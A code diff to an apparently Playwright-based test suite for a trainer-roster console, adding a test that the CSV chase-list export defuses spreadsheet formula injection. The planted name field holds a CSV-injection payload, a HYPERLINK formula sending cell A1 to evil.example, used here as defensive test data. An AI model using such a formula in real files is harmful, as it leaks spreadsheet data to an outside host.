@@ -5,6 +5,7 @@ security around it (CSRF, expiry, wrong passwords, every route checked)."""
 from __future__ import annotations
 
 import base64
+import csv
 import io
 import json
 import uuid as uuid_module
@@ -18,9 +19,10 @@ import requests
 from fastapi.routing import APIRoute
 from playwright.sync_api import Page, expect
 
-from tests.hq.console_kit import PASSWORD, admin, sign_in
+from tests.hq.console_kit import FORCE, PASSWORD, admin, sign_in
 from tests.hq.raw_laptop import RawLaptop, attendance, item, session
 from tests.hq_server import Hq
+from trainer_desk.core.people import Person, PersonRole
 from trainer_desk.hq import content as hq_content
 from trainer_desk.hq import roster as hq_roster
 from trainer_desk.hq.cli import main as hq_main
@@ -406,3 +408,21 @@ def test_trainers_who_have_not_delivered_for_six_months_are_flagged(page: Page, 
     expect(sessions_cell).to_have_text("3")  # the one long ago, the fixture's and the recent one
     expect(table).not_to_contain_text("100777")  # only planned, never delivered
     expect(table).not_to_contain_text("100300")  # East's trainer
+
+
+def test_a_chase_list_download_cannot_run_a_formula_in_a_spreadsheet(
+    page: Page, hq: Hq, force: dict[str, str], tmp_path: Path
+) -> None:
+    """A roster is HR's file: a name cell such as =HYPERLINK(...) must reach a lead's spreadsheet as text."""
+    planted = Person("710009", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)", "NORTH", PersonRole.STAFF)
+    hq_roster.import_roster(hq.engine, [*FORCE, planted])
+    sign_in(page, hq, "lead.north")
+    page.goto(hq.url + "/console/units/NORTH?programme=signa")
+    with page.expect_download() as download:
+        page.get_by_role("link", name="Download this list (CSV)").click()
+    saved = tmp_path / "outstanding.csv"
+    download.value.save_as(saved)
+    with saved.open(encoding="utf-8-sig", newline="") as handle:
+        rows = {row[0]: row for row in csv.reader(handle)}
+    assert rows["710009"][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click") @SUM(1+1)'
+    assert rows["710002"][1] == "Rhys ap Gwilym"  # ordinary names are left as they are
